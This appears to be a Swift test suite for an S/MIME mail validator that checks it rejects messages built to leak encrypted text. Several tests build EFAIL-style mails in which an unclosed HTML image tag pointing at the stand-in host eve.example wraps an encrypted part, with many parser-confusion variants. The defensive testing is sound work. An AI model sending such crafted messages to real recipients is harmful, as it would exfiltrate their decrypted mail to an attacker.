import Foundation
import OpenSSL
import PathValidation
import PrivateFiles
import SecureMail
import TestSupport
import Testing

@testable import KeyShareConsumer

@Suite("Parts that could send an encrypted text to a server", .timeLimit(.minutes(10)))
struct MessageExposureTests {
    private let scratch: ScratchFolder
    private let authority: MessageAuthority
    /// The recipient of the encrypted text.
    private let dana: MessageSender
    /// An attacker with a valid certificate.
    private let eve: MessageSender

    private let text = Array("Content-Type: text/plain\r\n\r\nSee below.\r\n".utf8)
    private let html = Array("Content-Type: text/html\r\n\r\n<img src=\"https://eve.example/\r\n".utf8)

    init() throws {
        scratch = try ScratchFolder()
        authority = try MessageAuthority()
        dana = try authority.sender()
        eve = try authority.sender([.rfc822Name("eve@mail.example")], serial: [3])
    }

    private func judge(_ mail: [UInt8], hasKey: Bool = true) async throws -> MessageReport {
        let file = try UnnamedFile(in: scratch.path)
        try file.write(mail)
        let contents = try MessageReader(scratch: scratch.path) { recipient in
            hasKey && recipient.isHolder(of: dana.certificate) ? (dana.certificate, dana.key) : nil
        }.read(file.descriptor)
        return await MessageValidator(
            CertificateVerifier(),
            pool: CertificatePool(trusted: [authority.issuer.certificate], untrusted: []), at: nil,
            now: Date()
        ).validate(contents)
    }

    private func signedByEve(_ entity: [UInt8]) throws -> [UInt8] {
        try eve.signed(entity, from: "eve@mail.example", in: scratch)
    }

    private func forwarded(_ mail: [UInt8]) -> [UInt8] {
        Array("Content-Type: message/rfc822\r\n\r\n".utf8) + mail
    }

    /// The CMS structure of a message in Base64.
    private func der(of mail: [UInt8]) throws -> [UInt8] {
        let text = String(decoding: mail, as: UTF8.self)
        let start = try #require(text.range(of: "\r\n\r\n")?.upperBound)
        return Array(
            try #require(Data(base64Encoded: String(text[start...]), options: .ignoreUnknownCharacters)))
    }

    /// Replaces the cipher AES-256-CBC by an unknown one.
    private func changingCipher(of mail: [UInt8]) throws -> [UInt8] {
        let text = String(decoding: mail, as: UTF8.self)
        let start = try #require(text.range(of: "\r\n\r\n")?.upperBound)
        var der = try der(of: mail)
        let cipher: [UInt8] = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2A]
        der[try #require(der.firstRange(of: cipher)).upperBound - 1] = 0x7F
        return Array(text[..<start].utf8) + MailText.base64(der)
    }

    @Test("A signature or an encryption around HTML and an encrypted part does not make them safe")
    func wrapped() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let parts = multipart([html, stolen, html])
        for mail in [
            try signedByEve(parts), try signedByEve(multipart([text, forwarded(parts)], boundary: "b")),
            try dana.encrypted(try signedByEve(parts), .aes256GCM, from: "eve@mail.example"),
            try signedByEve(multipart([html, try changingCipher(of: stolen), html])),
        ] {
            for hasKey in [true, false] {
                let report = try await judge(mail, hasKey: hasKey)
                let structure = try #require(report.checks.first)
                // Without the key, an encrypted part hides its parts.
                let isHidden = !hasKey && report.parts.count == 1
                #expect(structure.outcome == (isHidden ? .passed : .failed))
                #expect(!report.isValid && report.ownParts.allSatisfy { $0.isValid || isHidden })
            }
        }
        // Every part is inside the encryption.
        let inside = try dana.signed(multipart([text, html]), in: scratch)
        #expect(try await judge(try dana.encrypted(inside, .aes256GCM)).isValid)
        let around = try await judge(try signedByEve(multipart([text, forwarded(stolen)])))
        #expect(around.isValid && around.checks.first?.outcome == .passed)
    }

    @Test(
        "Messages and multiparts in quoted-printable could contain an encrypted part"
    )
    func unread() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let encoded = String(decoding: stolen, as: UTF8.self).replacing("pkcs7-mime", with: "pkcs7=2Dmime")
        let field = "Content-Transfer-Encoding: quoted-printable"
        let inside = "--c\r\n\(encoded)\r\n--c--\r\n"
        for part in [
            "Content-Type: message/rfc822\r\n\(field)\r\n\r\n\(encoded)",
            "Content-Type: multipart/mixed; boundary=c\r\n\(field)\r\n\r\n\(inside)",
        ] {
            let report = try await judge(
                multipart([html, Array(part.utf8), html, try signedByEve(text)]))
            #expect(!report.isValid)
        }
    }

    @Test("HTML next to a forwarded encrypted message makes the structure invalid, also if it is signed")
    func forwards() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let small = try signedByEve(text)
        for parts in [
            [html, forwarded(stolen), html, small], [try signedByEve(html), stolen, try signedByEve(html)],
            [try signedByEve(html), text, forwarded(stolen), text],
        ] {
            let report = try await judge(multipart(parts))
            #expect(!report.isValid && report.checks.first?.outcome == .failed)
            #expect(report.checks.first?.explanation.contains("part 1") == true)
        }
    }

    @Test(
        "The structure is unsettled if an unread part could contain an encrypted one",
        arguments: [
            "multipart/mixed; boundary=a=b", "multipart/signed; protocol=\"application/pkcs7-signature\"",
            "multipart/alternative",
        ])
    func unread(_ type: String) async throws {
        let hidden = Array("Content-Type: \(type)\r\n\r\n--a=b\r\n\r\nx\r\n--a=b--\r\n".utf8)
        let report = try await judge(try signedByEve(multipart([text, hidden])))
        #expect(!report.isValid && report.ownParts.allSatisfy(\.isValid))
        #expect(report.checks.first?.outcome == .unsettled)
        #expect(report.checks.first?.explanation.contains("part 2 (multipart/") == true)
    }

    @Test(
        "Lines that only some programs read as delimiters make the structure invalid",
        arguments: ["--outerx", "--outer\u{B}", "--outer--x", "--outer-"])
    func longDelimiters(line: String) async throws {
        let hidden = Array(
            "\(line)\r\nContent-Type: text/html\r\n\r\n<img src=\"https://eve.example/\r\n".utf8)
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let report = try await judge(multipart([text + hidden, stolen, try signedByEve(text)]))
        #expect(report.checks.first?.outcome == .failed)
        #expect(report.checks.first?.explanation.contains("because it begins like one") == true)
        // The delimiter of a signed message, too.
        let inside = Array("Content-Type: text/plain\r\n\r\na\r\n\(line)\r\n".utf8)
        let signed = String(decoding: try signedByEve(inside), as: UTF8.self)
        let boundary = try #require(signed.firstMatch(of: /boundary="([^"]+)"/)?.1)
        #expect(try await judge(Array(signed.utf8)).isValid)
        #expect(!(try await judge(Array(signed.replacing(boundary, with: "outer").utf8)).isValid))
    }

    @Test("A part after the end of a multipart message makes the structure invalid")
    func afterEnd() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let mail = multipart([text, stolen, try signedByEve(text)])
        let more = Array("--outer\r\n".utf8) + html + Array("--outer--\r\n".utf8)
        #expect(try await judge(mail).checks.first?.outcome == .passed)
        let report = try await judge(mail + more)
        #expect(report.checks.first?.outcome == .failed)
        #expect(report.checks.first?.explanation.contains("a part after its end") == true)
    }

    @Test("A part after the end is noticed, even if the first delimiter is already the last one")
    func afterImmediateEnd() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let field = Array("Content-Type: multipart/mixed; boundary=c\r\n\r\n--c--\r\n--c\r\n".utf8)
        let parts = [try signedByEve(text), html, field + stolen + Array("\r\n--c--".utf8), html]
        #expect(!(try await judge(multipart(parts)).isValid))
        #expect(!(try await judge(try signedByEve(multipart(parts))).isValid))
    }

    @Test("Delimiters and header fields that are longer than a chunk are read like shorter ones, or noticed")
    func longLines() async throws {
        let safe = try dana.encrypted(try signedByEve(text), .aes256CBC)
        // The delimiter's line is read in two pieces, and the second one looks like an empty line.
        let start = "Content-Type: multipart/mixed; boundary=c\r\n\r\n"
        let blanks = String(repeating: " ", count: 65_536 - start.utf8.count - 3)
        let divided = Array("\(start)--c\(blanks)\r\n".utf8) + html + Array("--c--\r\n".utf8)
        #expect(!(try await judge(multipart([divided, safe])).isValid))
        // The boundary contains a space, where the two pieces meet.
        let field = "Content-Type: multipart/mixed; x="
        let end = "; boundary=\"A"
        let value = String(repeating: "a", count: 65_536 - field.utf8.count - end.utf8.count)
        let inner = Array("\(field)\(value)\(end) B\"\r\n\r\n--AB\r\n\r\nx\r\n--A B\r\n".utf8) + html
        let joined = inner + Array("--A B--\r\n--AB--\r\n".utf8)
        #expect(!(try await judge(multipart([joined, safe])).isValid))
    }

    @Test(
        "A boundary that programs read differently hides nothing",
        arguments: [
            "\"A\r\n B\"", "\"A B\"", "\"\u{E9}x\"", "\"e\(String(repeating: "\u{301}", count: 40))\"",
            #""A\B""#,
            "\"<A>\"", #""\"A\"""#, "\"A\u{1F}\"", "\"A\u{A0}\"", "\"=?utf-8?q?A?=\"",
        ])
    func boundaries(boundary: String) async throws {
        let safe = try dana.encrypted(try signedByEve(text), .aes256CBC)
        let part = Array("Content-Type: multipart/mixed; boundary=\(boundary)\r\n\r\n--A\r\n".utf8)
        #expect(
            try await judge(multipart([part + html + Array("--A--".utf8), safe])).checks.first?.outcome
                != .passed)
        #expect(try await judge(multipart([text, safe])).checks.first?.outcome == .passed)
    }

    @Test("A comment in a media type makes the boundary ambiguous")
    func comments() async throws {
        let safe = try dana.encrypted(try signedByEve(text), .aes256CBC)
        for (comment, isValid) in [("", true), ("(c)", false), ("(; boundary=B ;)", false), ("(\")", false)] {
            let start = "Content-Type: multipart/mixed \(comment); boundary=A\r\n\r\n--A\r\n\r\nx\r\n"
            let part = Array("\(start)--A--\r\n".utf8)
            #expect(
                (try await judge(multipart([part, safe])).checks.first?.outcome == .passed) == isValid,
                "\(comment)")
        }
    }

    @Test("A boundary that an enclosing one begins with is noticed, also around a signed part")
    func enclosingBoundaries() async throws {
        let safe = try dana.encrypted(try signedByEve(text), .aes256CBC)
        for (boundary, isValid) in [("out", false), ("outer", false), ("inner", true)] {
            let child = Array("Content-Type: multipart/mixed; boundary=\(boundary)\r\n\r\n".utf8)
            let body = Array("--\(boundary)\r\n".utf8) + text + Array("--\(boundary)--\r\n".utf8)
            #expect(
                (try await judge(multipart([child + body, safe])).checks.first?.outcome == .passed) == isValid
            )
            #expect(
                (try await judge(multipart([forwarded(child + body), safe])).checks.first?.outcome == .passed)
                    == isValid)
        }
        let signed = String(decoding: try signedByEve(text), as: UTF8.self)
        let boundary = try #require(signed.firstMatch(of: /boundary="([^"]+)"/)?.1)
        let overlapping = Array(signed.replacing(boundary, with: "out").utf8)
        #expect(try await judge(multipart([overlapping, text])).checks.first?.outcome != .passed)
    }

    @Test(
        "Messages of uncommon types and encodings next to HTML are noticed",
        arguments: [
            "message/rfc2822", "message/partial; total=1", "message/x-other", "application/xpkcs7mime",
            "application/octet-stream\r\nContent-Transfer-Encoding: x-uuencode",
        ])
    func uncommonTypes(type: String) async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let isMessage = type.hasPrefix("message/")
        let encoding = type.contains("Encoding") || isMessage ? "" : "Content-Transfer-Encoding: base64\r\n"
        let part =
            Array("Content-Type: \(type)\r\n\(encoding)\r\n".utf8)
            + (isMessage ? stolen : MailText.base64(try der(of: stolen)))
        #expect(!(try await judge(multipart([try signedByEve(text), html, part])).isValid))
    }

    @Test("A part of a message that another program would encrypt or sign may replace the S/MIME part")
    func otherProtections() async throws {
        for type in ["signed; protocol=\"application/pgp-signature\"", "encrypted"] {
            let report = try await judge(multipart([html, try signedByEve(text)], type: type))
            #expect(report.checks.first?.outcome == .failed)
        }
    }

    @Test("A message that ends within its last delimiter is read")
    func truncated() async throws {
        let mail = try signedByEve(text)
        for count in 1...3 { #expect(try await judge(mail.dropLast(count)).isValid, "\(count)") }
    }

    private func certificateList() throws -> [UInt8] {
        _ = try scratch.write(Array(authority.issuer.certificate.pem.utf8), as: "certificates.pem")
        try scratch.shell("openssl crl2pkcs7 -nocrl -certfile certificates.pem -outform DER -out list.p7c")
        return MailText.base64(try scratch.read("list.p7c"))
    }

    @Test("A list of certificates in the place of a signature does not hide the signed part")
    func listAsSignature() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let type = "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=c"
        let signature =
            "Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        let mail =
            Array("Content-Type: \(type)\r\n\r\n--c\r\n".utf8) + stolen
            + Array("\r\n--c\r\n\(signature)".utf8) + (try certificateList()) + Array("\r\n--c--\r\n".utf8)
        for part in [mail, forwarded(mail)] {
            let report = try await judge(multipart([try signedByEve(text), html, part, html]))
            #expect(!report.isValid)
        }
    }

    @Test("A list of certificates next to other parts cannot contain an encrypted one")
    func listNextToParts() async throws {
        let field = "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=list.p7c"
        let list =
            Array("\(field)\r\nContent-Transfer-Encoding: base64\r\n\r\n".utf8)
            + (try certificateList())
        let report = try await judge(try signedByEve(multipart([text, list])))
        #expect(report.checks.first?.outcome == .passed, "\(report.checks)")
    }

    /// The encodings of an encrypted message that mail programs decode.
    private func bodies() throws -> [[UInt8]] {
        let der = try der(of: try dana.encrypted(MessageSender.body, .aes256CBC))
        let escaped = der.map { ($0 < 16 ? "=0" : "=") + String($0, radix: 16, uppercase: true) }
            .joined(separator: "=\r\n")
        let breaks = String(repeating: "=\r\n", count: 22_000)
        return [
            MailText.base64(der), Array("!!\r\n".utf8) + MailText.base64(der), der, Array(escaped.utf8),
            Array((breaks + escaped).utf8),
        ]
    }

    @Test(
        "An encrypted part is noticed, whatever its header says",
        arguments: [
            "no field\r\nContent-Type: application/pkcs7-mime",
            "Content-Type: application/pkcs7-mime\r\nContent-Type: text/plain",
            "Content-Type: application/pkcs7-mime smime-type=enveloped-data",
            "X: 1\rContent-Type: application/pkcs7-mime\r\nContent-Type: multipart/mixed; boundary=c",
            "Content-Type: application/octet-stream",
            "Content-Type: application/octet-stream; name*=utf-8''smime%2Ep7m",
            "Content-Type: application/octet-stream; name=\"=?utf-8?B?c21pbWUucDdt?=\"",
            "Content-Type: application/octet-stream; name=a.bin; filename=smime.p7m",
            "Content-Type: application/pkcs7-signature",
            "Content-Type: application/x-pkcs7-signature; name=a.p7s",
            "Content-Type: application/xpkcs7mime", "Content-Type: image/x-pkcs7-mime",
            "Content-Type: application/x-unknown-content-type; name=smime.p7m",
        ])
    func misdeclared(_ header: String) async throws {
        for body in try bodies() {
            let part = Array((header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n").utf8) + body
            let report = try await judge(try signedByEve(multipart([html, part])))
            #expect(!report.isValid && report.checks.first?.outcome != .passed)
            #expect(report.checks.first?.explanation.contains("encrypted part") == true)
            #expect(try await !judge(multipart([html, part, html, try signedByEve(text)])).isValid)
        }
    }

    @Test("A part is noticed in which mail programs could find an encrypted file")
    func encodedFiles() async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        for part in [
            "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n\r\nbegin 644 smime.p7m\r\nM,(!\r\n",
            "X: 1\r\n\r\n=ybegin line=128 size=9 name=smime.p7m\r\n",
            "Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r--c\rContent-Type: x/y\r\r\n--c--\r\n",
            "Content-Type: application/octet-stream; name=a.eml\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n",
            "Content-Type: message/rfc822\r\n\r\nContent-Type: multipart/mixed; boundary=a; boundary=b\r\n\r\n"
                + String(repeating: "\r\n", count: 1 << 16),
            "Content-Type: application/octet-stream; name=a.eml (x)\r\n\r\n",
            "Content-Type: application/octet-stream; name=a.eml\r\nContent-Disposition: inline; filename=a.pdf\r\n\r\n",
            "Content-Type: application/octet-stream; name*2=ml; name*0=a; name*1=.e\r\n\r\n",
            "Content-Type: application/octet-stream; name*=utf-8''%ffa%2Eeml\r\n\r\n",
            "Content-Type: application/octet-stream; name=\"a.eml. \"\r\n\r\n",
            "Content-Type: application/octet-stream; name=a.pdf\r\nContent-Disposition: inline; filename=a.p7m\r\n\r\nMA==",
            "X: 1\r\nno field\r\nContent-Type: application/pkcs7-mime; x=\"\u{2028}\"\r\n\r\n",
            "X: 1\r\nno field\r\n\u{FEFF}Content-Type:\u{301} application/pkcs7-mime\r\n\r\n",
        ] {
            let report = try await judge(try signedByEve(multipart([html, Array(part.utf8) + stolen])))
            #expect(!report.isValid && report.checks.first?.outcome != .passed, "\(part)")
        }
    }

    @Test(
        "A signed structure is noticed if it has content, but no detached signature or list of certificates")
    func signedAttachments() async throws {
        let file = try UnnamedFile(in: scratch.path)
        try file.write(text)
        let signature = try CMSSignature.sign(file.descriptor, as: eve.certificate, with: eve.key)
        let names = ["", "; name=p7mail.p7b", "; name=smime (1).p7s", "; name*=utf-8''M%C3%A4rz.pdf.p7s"]
        for type in ["application/octet-stream", "application/pkcs7-signature"] {
            for name in names {
                let header = "Content-Type: \(type)\(name)\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                let part = Array(header.utf8) + MailText.base64(signature)
                let report = try await judge(try signedByEve(multipart([html, part])))
                #expect(report.isValid && report.checks.first?.outcome == .passed, "\(header)")
            }
        }
        _ = try scratch.write(text, as: "text")
        try scratch.shell(
            "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=x -keyout k.pem -out c.pem"
                + " && openssl cms -sign -nodetach -binary -in text -signer c.pem -inkey k.pem -outform DER -out opaque"
        )
        let opaque = try scratch.read("opaque")
        for type in ["application/octet-stream", "application/pkcs7-signature; name=smime.p7s"] {
            let part = Array("Content-Type: \(type)\r\n\r\n".utf8) + opaque
            let report = try await judge(try signedByEve(multipart([html, part])))
            #expect(report.checks.first?.outcome == .unsettled, "\(type)")
        }
    }

    @Test("An attachment that begins like a CMS structure with a very long content type is ordinary")
    func longTypes() async throws {
        let start: [UInt8] = [
            0x30, 0x84, 0x06, 0xFF, 0xFF, 0xFF, 0x06, 0x84, 0x7F, 0xFF, 0xFF, 0xFF, 0x2A,
        ]
        let part = Array("Content-Type: application/octet-stream\r\n\r\n".utf8) + start
        #expect(try await judge(try signedByEve(multipart([html, part]))).isValid)
    }

    @Test("A signed file that only mentions a media type is text")
    func mentionedTypes() async throws {
        for line in [
            "<meta http-equiv=\"Content-Type\" content=\"text/html\">", "The content-type is important.",
        ] {
            #expect(try await judge(try signedByEve(Array("\(line)\r\n".utf8))).isValid)
        }
        let report = try await judge(try signedByEve(Array("x\r\nContent-Type : multipart/mixed\r\n".utf8)))
        #expect(report.checks.first?.outcome == .unsettled)
    }

    @Test(
        "Forwarded messages are found in all forms that mail programs open",
        arguments: [
            "Content-Type: message/news\r\n\r\n",
            "Content-Type: application/octet-stream; name=a.EML\r\n\r\n",
            "Content-Type: application/octet-stream; name*0=a.e; name*1=ml\r\n\r\n",
            "Content-Type: application/octet-stream; name=\"=?utf-8?B?YS5lbWw=?=\"\r\n\r\n",
            "Content-Type: application/x-unknown-content-type; name*=utf-8''a%2Emht\r\n\r\n",
            "Content-Type: message/rfc822\r\n\r\n\r\n",
            "Content-Type: message/rfc822\r\n\r\n>From a@mail.example Fri Nov 27 12:00:00 2026\r\n",
        ])
    func forwardedForms(_ header: String) async throws {
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let parts = [html, Array(header.utf8) + stolen, html, try signedByEve(text)]
        let report = try await judge(multipart(parts))
        #expect(!report.isValid && report.checks.first?.outcome != .passed)
        let harmless = Array(header.utf8) + Array("Subject: x\r\n\r\nHello\r\n".utf8)
        #expect(try await judge(try signedByEve(multipart([text, harmless]))).isValid)
    }

    @Test("Digests, bounces without a text, and signed files without a header are read as a whole")
    func readable() async throws {
        let digest = multipart(
            [Array("\r\nFrom: a@mail.example\r\n\r\nx".utf8), Array("X: 1\r\n\r\nFrom: a@b\r\n\r\nx".utf8)],
            type: "digest")
        let bounces = [
            "multipart/mixed; boundary=b",
            "multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b",
            "application/pkcs7-mime",
            "multipart/mixed; boundary=b\r\nContent-Transfer-Encoding: quoted-printable",
        ].flatMap { type in
            ["", "\r\n", "\r\n\r\n"].map { end in
                multipart([text, forwarded(Array("Subject: x\r\nContent-Type: \(type)\r\n\(end)".utf8))])
            }
        }
        for content in bounces + [digest, Array("Hello, Dana.\r\n".utf8)] {
            #expect(try await judge(try signedByEve(content)).isValid)
        }
        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
        let report = try await judge(
            try signedByEve(
                multipart([html, multipart([Array("\r\n".utf8) + stolen], boundary: "d", type: "digest")])))
        #expect(report.checks.first?.outcome == .failed)
    }

    @Test("A message with too many levels of forwarded messages is unsettled, but its signed part is valid")
    func levels() async throws {
        for (count, isWithin) in [(MailLimits.messageLevels, true), (MailLimits.messageLevels + 1, false)] {
            let nested = (0..<count).reduce(text) { mail, _ in forwarded(mail) }
            let report = try await judge(multipart([try dana.signed(in: scratch), nested]))
            #expect(report.ownParts.map(\.isValid) == [true] && report.isValid == isWithin)
            let structure = try #require(report.checks.first)
            #expect(structure.outcome == (isWithin ? .passed : .unsettled), "\(count)")
            #expect(structure.explanation.contains("more than 16 levels of parts") != isWithin)
        }
    }

    @Test("A bare CMS message has no From field to compare with its signer, and is valid nevertheless")
    func bare() async throws {
        let mail = try dana.encrypted(try dana.signed(in: scratch), .aes256GCM)
        for (bytes, expected) in [(mail, Verification.Outcome.passed), (try der(of: mail), .notChecked)] {
            let report = try await judge(bytes)
            let sender = report.parts.first?.signers.first?.checks.first { $0.name == "sender" }
            #expect(report.isValid && sender?.outcome == expected)
        }
    }
}
